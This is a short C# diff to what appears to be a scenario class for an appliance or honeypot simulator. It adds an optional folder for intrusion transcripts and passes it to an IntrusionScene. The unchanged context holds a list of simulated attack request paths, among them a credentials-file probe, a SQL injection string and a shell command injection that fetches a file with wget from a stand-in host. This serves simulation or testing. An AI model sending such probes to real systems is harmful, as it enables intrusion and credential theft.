@@ -19,7 +19,8 @@ public static class Scenario
          "/actuator/env", "/.aws/credentials", "/?id=1%27%20UNION%20SELECT%201,2,3--", "/shell?cd+/tmp;wget+http://x/y", "/HNAP1/",
          "/server-status", "/backup.sql", "/config.json", "/xmlrpc.php", "/manager/html"];
 
-    public static IReadOnlyList<IScene> Scenes(ApplianceSettings settings) =>
+    /// <param name="transcripts">Folder for what intruders saw; empty: it is not kept.</param>
+    public static IReadOnlyList<IScene> Scenes(ApplianceSettings settings, string transcripts = "") =>
     [
         new PeaceScene(settings),
 
@@ -73,7 +74,7 @@ public static class Scenario
         new ForwardingScene(70),
         new FeedScene(settings, 71),
         new DeceptionScene(),
-        new IntrusionScene(),
+        new IntrusionScene(transcripts),
         new CrashScene(settings),
         new CleanStopScene(),
     ];
